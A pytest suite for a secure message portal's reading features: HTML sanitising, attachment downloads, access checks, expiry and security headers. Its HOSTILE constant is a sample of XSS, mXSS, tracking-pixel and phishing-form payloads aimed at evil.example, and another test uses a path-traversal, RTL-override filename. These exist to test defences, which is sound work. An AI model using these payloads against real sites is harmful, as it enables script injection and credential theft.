"""Reading: inbox, message pages, hostile HTML, attachments, inline images, headers, errors."""

from __future__ import annotations

import re
from datetime import timedelta

import pytest
from sqlalchemy import select, update

from escrow.models import AuditEvent, Delivery, Message, utcnow
from tests.web.conftest import browse
from tests.web.helpers import PDF, PNG, Portal, mime_message
from web.security import CSP

HOSTILE = """<html><head><title>Page title</title>
<meta http-equiv="refresh" content="0;url=https://evil.example/">
<base href="https://evil.example/"><link rel="stylesheet" href="https://evil.example/s.css">
<style>body { background: url(https://evil.example/track.png) } p { width: expression(alert(1)) }</style>
</head><body onload="alert('load')">
<p>Visible greeting</p>
<script>alert('script')</script><SCRIPT SRC=https://evil.example/x.js></SCRIPT>
<img src="x" onerror="alert('onerror')">
<img src="https://evil.example/pixel.gif" alt="pixel">
<img src="//evil.example/protocol-relative.gif">
<img src="data:image/png;base64,iVBORw0KGgo=">
<img src="cid:logo@riverside" alt="Practice logo">
<a href="javascript:alert('link')">click me</a>
<a href=" JaVaScRiPt:alert('mixed')">mixed case</a>
<a href="https://booking.example/">Book a session</a>
<div style="background-image: url('https://evil.example/bg.png'); width: expression(alert(1))">styled</div>
<table background="https://evil.example/t.png"><tr><td>cell</td></tr></table>
<iframe src="https://evil.example/frame"></iframe>
<form action="https://evil.example/steal"><input name="pw" type="password"><button>Log in</button></form>
<svg onload="alert('svg')"><script>alert('svg script')</script></svg>
<object data="https://evil.example/o.swf"></object><embed src="https://evil.example/e.swf">
<video poster="https://evil.example/poster.png" src="https://evil.example/v.mp4"></video>
<math><mtext><style><img src=x onerror=alert('mxss')></style></mtext></math>
</body></html>"""


def body_of(page: str) -> str:
    match = re.search(r'<div class="mail-html">(.*?)</div>\s*\n\s*</div>', page, re.S)
    assert match, "no HTML body on the page"
    return match.group(1)


async def test_hostile_html_is_shown_harmless(portal: Portal) -> None:
    sent = await portal.send(mime_message(html=HOSTILE, inline_png=True))
    page = await portal.set_up(sent)
    assert page.status_code == 200
    body = body_of(page.text)
    lowered = body.lower()

    assert "Visible greeting" in body and "Book a session" in body
    for banned in (
        "<script",
        "onerror",
        "onload",
        "javascript:",
        "<style",
        "style=",
        "expression(",
        "url(",
        "<iframe",
        "<form",
        "<input",
        "<meta",
        "<base",
        "<link",
        "<object",
        "<embed",
        "<svg",
        "background=",
        "poster=",
        "data:",
        "evil.example/pixel",
        "//evil",
        "<video",
    ):
        assert banned not in lowered, banned
    srcs = re.findall(r'src="([^"]*)"', body)
    assert srcs == [f"/messages/{sent.message_id}/images/1"]
    assert 'href="https://booking.example/"' in body
    assert 'rel="noopener noreferrer nofollow"' in body
    assert "Page title" not in body
    # The page around it is still ours: one CSP, no inline script anywhere.
    assert page.headers["content-security-policy"] == CSP
    assert "<script" not in page.text.lower()

    image = await portal.client.get(srcs[0])
    assert image.status_code == 200
    assert image.content == PNG
    assert image.headers["content-type"] == "image/png"
    assert image.headers["x-content-type-options"] == "nosniff"


async def test_plain_text_is_shown_as_text(portal: Portal) -> None:
    sent = await portal.send(mime_message(text="Dear Sam,\n<b>not bold</b> & <script>x</script>\n"))
    page = await portal.set_up(sent)

    assert (
        '<div class="mail-text">Dear Sam,\n&lt;b&gt;not bold&lt;/b&gt; &amp; &lt;script&gt;'
        in page.text
    )


async def test_attachments_download_byte_for_byte_with_safe_headers(portal: Portal) -> None:
    hostile_name = '../../etc/\u202egpj.exe\x07 notes\\"report".pdf'
    sent = await portal.send(
        mime_message(
            attachments=(
                ("Befund Übersicht.pdf", "application/pdf", PDF),
                (hostile_name, "text/html", b"<script>alert(1)</script>"),
                ("data.bin", "application/x-msdownload", b"MZ\x00\x01"),
            )
        )
    )
    page = await portal.set_up(sent)
    assert "Befund Übersicht.pdf" in page.text
    assert "(301 bytes)" in page.text

    pdf = await portal.client.get(f"/messages/{sent.message_id}/attachments/1")
    assert pdf.status_code == 200
    assert pdf.content == PDF
    assert pdf.headers["content-type"] == "application/pdf"
    assert pdf.headers["x-content-type-options"] == "nosniff"
    assert pdf.headers["cache-control"] == "no-store"
    disposition = pdf.headers["content-disposition"]
    assert disposition.startswith("attachment;")
    assert "filename*=UTF-8''Befund%20%C3%9Cbersicht.pdf" in disposition
    assert 'filename="Befund Ubersicht.pdf"' in disposition

    html = await portal.client.get(f"/messages/{sent.message_id}/attachments/2")
    assert html.headers["content-type"] == "application/octet-stream"
    disposition = html.headers["content-disposition"]
    assert disposition.startswith("attachment;")
    name = disposition.split("filename*=UTF-8''", 1)[1]
    for bad in ("/", "%2F", "\\", "%5C", "%07", "%E2%80%AE", "..", '"'):
        assert bad not in name, bad
    ascii_part = re.search(r'filename="([^"]*)"', disposition)
    assert ascii_part and "/" not in ascii_part.group(1) and ".." not in ascii_part.group(1)

    exe = await portal.client.get(f"/messages/{sent.message_id}/attachments/3")
    assert exe.headers["content-type"] == "application/octet-stream"
    assert exe.content == b"MZ\x00\x01"

    missing = await portal.client.get(f"/messages/{sent.message_id}/attachments/9")
    assert missing.status_code == 404
    async with portal.services.db.read() as session:
        downloads = (
            await session.scalars(
                select(AuditEvent).where(AuditEvent.action == "attachment.downloaded")
            )
        ).all()
    assert len(downloads) == 3
    assert all("Befund" not in e.detail and "etc" not in e.detail for e in downloads)


async def test_viewing_marks_the_delivery_read_and_is_audited(portal: Portal) -> None:
    sent = await portal.send()
    await portal.set_up(sent)

    async with portal.services.db.read() as session:
        delivery = await session.get(Delivery, sent.delivery_id)
        viewed = (
            await session.scalars(select(AuditEvent).where(AuditEvent.action == "message.viewed"))
        ).all()
    assert delivery is not None and delivery.status == "read"
    assert delivery.read_at is not None and delivery.opened_at is not None
    assert [(e.message_id, e.outcome) for e in viewed] == [(sent.message_id, "ok")]
    assert all("Notes" not in e.detail for e in viewed)


async def test_inbox_lists_newest_first_with_pages(portal: Portal) -> None:
    first = await portal.send(mime_message(subject="Subject number 0"))
    for n in range(1, 23):
        await portal.send(mime_message(subject=f"Subject number {n}"))
    await portal.set_up(first)

    page_one = await portal.client.get("/inbox")
    page_two = await portal.client.get("/inbox?page=2")
    bad_page = await portal.client.get("/inbox?page=abc")

    subjects = re.findall(r"Subject number (\d+)", page_one.text)
    assert subjects == [str(n) for n in range(22, 2, -1)]
    assert re.findall(r"Subject number (\d+)", page_two.text) == ["2", "1", "0"]
    assert 'href="/inbox?page=2"' in page_one.text
    assert "Newer messages" in page_two.text
    assert bad_page.status_code == 200
    assert "From Riverside Counselling" in page_one.text
    assert page_one.text.count("badge-new") == 20  # the one read is on page two
    assert page_two.text.count("badge-new") == 2
    assert "<title>Your messages" in page_one.text  # no subject in a title


async def test_another_recipients_message_is_a_plain_not_found(portal: Portal) -> None:
    mine = await portal.send()
    theirs = await portal.send(
        mime_message(to="someone.else@example.org"), to="someone.else@example.org"
    )
    await portal.set_up(mine)

    for path in (
        f"/messages/{theirs.message_id}",
        f"/messages/{theirs.message_id}/attachments/1",
        f"/messages/{theirs.message_id}/images/1",
        f"/messages/{'0' * 32}",
        "/messages/not-an-id",
    ):
        response = await portal.client.get(path)
        assert response.status_code == 404, path
        assert "Page not found" in response.text
    inbox = await portal.client.get("/inbox")
    assert theirs.message_id not in inbox.text


@pytest.mark.parametrize("how", ["revoked", "expired"])
async def test_withdrawn_and_expired_messages_show_a_notice_not_content(
    portal: Portal, how: str
) -> None:
    sent = await portal.send(mime_message(subject="Very private subject"))
    await portal.set_up(sent)
    values = (
        {"revoked_at": utcnow()}
        if how == "revoked"
        else {"expires_at": utcnow() - timedelta(minutes=1)}
    )
    async with portal.services.db.write() as session:
        await session.execute(update(Message).where(Message.id == sent.message_id).values(**values))

    page = await portal.client.get(f"/messages/{sent.message_id}")
    inbox = await portal.client.get("/inbox")
    download = await portal.client.get(f"/messages/{sent.message_id}/attachments/1")

    assert page.status_code == 410
    assert ("withdrawn" if how == "revoked" else "no longer available") in page.text
    for response in (page, inbox):
        assert "Very private subject" not in response.text
        assert "Hello Sam" not in response.text
    assert ("Withdrawn by" if how == "revoked" else "No longer available") in inbox.text
    assert download.status_code == 404


async def test_security_headers_on_every_page(portal: Portal) -> None:
    sent = await portal.send(
        mime_message(
            html="<p>x<img src='cid:logo@riverside'></p>",
            inline_png=True,
            attachments=(("a.pdf", "application/pdf", PDF),),
        )
    )
    unauthenticated = [
        await portal.client.get("/"),
        await portal.client.get("/m/unknown-token-value-unknown-token-value"),
        await portal.client.get("/nowhere"),
        await portal.client.get("/signed-out"),
        await portal.client.get("/inbox"),
        await portal.client.get("/healthz"),
        await portal.client.get(f"/m/{sent.token}"),
        await portal.client.get("/access"),
    ]
    page = await portal.set_up(sent)
    signed_in = [
        page,
        await portal.client.get("/inbox"),
        await portal.client.get("/activity"),
        await portal.client.get(f"/messages/{sent.message_id}/attachments/1"),
        await portal.client.get(f"/messages/{sent.message_id}/images/1"),
        await portal.client.get("/nowhere"),
        await portal.client.delete("/inbox"),
    ]
    for response in unauthenticated + signed_in:
        where = f"{response.request.method} {response.request.url.path}"
        assert response.headers["content-security-policy"] == CSP, where
        assert response.headers["referrer-policy"] == "no-referrer", where
        assert response.headers["x-content-type-options"] == "nosniff", where
        assert response.headers["x-frame-options"] == "DENY", where
        assert "camera=()" in response.headers["permissions-policy"], where
        assert response.headers["cache-control"] == "no-store", where
    css = await portal.client.get("/static/portal.css")
    assert css.status_code == 200
    assert css.headers["content-security-policy"] == CSP
    assert "no-store" not in css.headers["cache-control"]


async def test_unknown_routes_and_errors_are_neutral(portal: Portal) -> None:
    missing = await portal.client.get("/wp-admin/setup.php")
    assert missing.status_code == 404
    assert "Page not found" in missing.text

    async def broken(*_args: object, **_kwargs: object) -> object:
        raise RuntimeError("database password is hunter2")

    sent = await portal.send()
    await portal.set_up(sent)
    portal.services.portal.mailbox.inbox = broken  # type: ignore[method-assign]
    async with browse(portal.services, raise_app_exceptions=False) as client:
        client.cookies.update(portal.client.cookies)
        response = await client.get("/inbox")

    assert response.status_code == 500
    assert "Something went wrong" in response.text
    assert "hunter2" not in response.text and "Traceback" not in response.text
    assert "RuntimeError" not in response.text
    assert response.headers["content-security-policy"] == CSP
    assert response.headers["cache-control"] == "no-store"
